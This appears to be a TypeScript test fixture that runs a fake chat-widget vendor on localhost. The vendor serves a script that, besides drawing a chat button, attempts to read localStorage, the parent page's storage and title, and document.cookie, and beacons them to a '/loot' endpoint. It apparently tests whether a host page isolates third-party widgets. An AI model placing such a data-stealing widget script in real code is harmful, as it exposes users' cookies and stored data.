import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/** A fake vendor of chat widgets and referral tracking, at an origin of its own. */
export type Vendor = {
  url: string;
  /** All POST requests it received, from the widgets among others. */
  posted: { path: string; body: string }[];
  close(): void;
};

/**
 * A support widget as a vendor would write it: it shows a button in its container, with the token it was given. This
 * one also tries to read the page's data.
 */
const widget = `(() => {
  const name = document.currentScript.dataset.widget;
  const mine = window.chatSupport[name];
  const attempt = (read) => { try { return String(read() ?? ''); } catch (error) { return error.name; } };
  const loot = [attempt(() => JSON.stringify(localStorage)), attempt(() => parent.localStorage.length), attempt(() => parent.document.title), attempt(() => document.cookie)];
  navigator.sendBeacon(new URL('/loot', document.currentScript.src), loot.join());
  const { src } = document.currentScript;
  const button = document.createElement('button');
  button.textContent = 'Chat ' + name + ' ' + mine.token.length + ' ' + mine.person.email;
  mine.container.append(button);
  mine.onStop.push(() => { navigator.sendBeacon(new URL('/stopped', src), name); });
})()`;

/** Answers every URL with the widget's script, and records what is posted. */
export const startVendor = async (): Promise<Vendor> => {
  const posted: Vendor['posted'] = [];
  const server = createServer((request, reply) => {
    const { method, url: path = '' } = request;
    if (method === 'POST') void text(request).then((body) => posted.push({ path, body }));
    reply.setHeader('content-type', 'text/javascript').end(method === 'POST' ? '' : widget);
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://localhost:${port}`, posted, close: () => server.close() };
};
